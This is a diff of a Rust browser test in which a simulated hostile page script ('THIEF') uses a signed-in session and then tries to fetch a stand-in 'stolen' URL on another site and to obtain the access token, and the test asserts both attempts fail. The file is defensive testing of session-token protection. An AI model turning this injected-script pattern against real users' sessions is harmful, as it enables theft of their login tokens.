@@ -130,9 +130,9 @@ const THIEF: &str = r#"(() => {
       workers[0].addEventListener("message", ({ data: [said, body] }) => {
         const message = JSON.parse(said);
         if (message.kind !== "answer" || message.id !== id) return;
-        resolve({ ...message, body: body && new TextDecoder().decode(body) });
+        resolve({ ...message.answer, body: body && new TextDecoder().decode(body) });
       });
-      const message = { kind: "ask", id, url: location.href, ...command };
+      const message = { kind: "ask", id, url: location.href, command };
       workers[0].postMessage([JSON.stringify(message), undefined]);
     });
   };
@@ -234,19 +234,23 @@ fn t85_a_script_in_the_page_can_use_the_session_while_the_page_is_open() {
     stage.try_to_sign_in();
     wait_for_profile(&stage.browser, HOSTILE_NAME);
     let ask = |command: Value| stage.browser.execute(&format!("return thief.ask({command})"));
-    let fetch = |to: &str| json!({"command": "fetch", "method": "GET", "to": to, "headers": [], "timeout": 5000});
+    let fetch = |to: &str| {
+        let request = json!({"method": "GET", "url": to, "headers": [], "timeout": 5000});
+        json!({"kind": "fetch", "request": request})
+    };
     // This is the limit (RFC 10017 section 5.1.3): what the app may do, the script may do.
-    assert_eq!(ask(json!({"command": "refresh"}))["is"], "done");
+    assert_eq!(ask(json!({"kind": "refresh"}))["answer"]["kind"], "done");
     let answer = ask(fetch(&format!("{}/api", stage.server.issuer("refresh"))));
-    assert_eq!((&answer["status"], &answer["is"]), (&json!(200), &json!("response")), "{answer}");
+    assert_eq!(answer["answer"]["response"]["status"], 200, "{answer}");
     assert!(answer["body"].as_str().is_some_and(|body| body.contains("\"ok\":true")), "{answer}");
 
     // And this is not: to send the token elsewhere, or to have it.
     let elsewhere = stage.site.url("stolen");
-    let other_settings = "thief.say({kind: 'start', version: '0.1.0', config: {}, entries: []})";
+    let other_settings =
+        "thief.say({kind: 'start', start: {version: '0.1.0', config: {}, entries: []}})";
     stage.browser.execute(other_settings);
     assert_eq!(ask(fetch(&elsewhere))["error"]["code"], "origin_not_allowed");
-    assert_eq!(ask(json!({"command": "expose_access_token"}))["error"]["code"], "invalid_config");
+    assert_eq!(ask(json!({"kind": "expose_access_token"}))["error"]["code"], "invalid_config");
     assert!(!stage.site.requests().iter().any(|request| request.path.ends_with("stolen")));
     for token in tokens(&stage) {
         assert_eq!(places(&stage, &token), Vec::<String>::new(), "{token}");
